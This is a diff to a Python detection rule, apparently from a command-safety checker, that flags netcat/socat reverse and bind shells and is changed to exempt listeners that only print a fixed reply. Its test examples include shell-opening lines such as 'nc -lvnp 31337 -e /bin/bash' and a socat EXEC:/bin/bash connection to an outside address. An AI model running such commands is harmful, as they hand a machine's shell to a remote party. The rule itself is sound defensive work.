@@ -433,8 +433,11 @@ RULES = [
         "reason": "netcat/socat executes a program for a network peer: a reverse or bind shell",
         "safer": "Nothing legitimate in a coding task needs this.",
         "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
+        # a program that prints a fixed reply (`nc -l -c 'echo ok'`, a health-check stub) runs nothing
+        # the peer sends
         "match": {
             "cmd": ("nc", "ncat", "netcat", "socat", "cryptcat"),
+            "fixed_reply": False,
             "words_any": (
                 "-e",
                 "-c",
@@ -458,7 +461,8 @@ RULES = [
                 "nc -lvnp 31337 -e /bin/bash",
                 "socat TCP:203.0.113.12:4443 EXEC:/bin/bash",
             ],
-            "no_match": ["nc -zv localhost 5432", "socat TCP-LISTEN:8080 TCP:localhost:80"],
+            "no_match": ["nc -zv localhost 5432", "socat TCP-LISTEN:8080 TCP:localhost:80",
+                         "nc -l -p 8080 -c 'echo hello'", "socat TCP-LISTEN:8080,fork SYSTEM:'printf ok'"],
         },
     },
     {
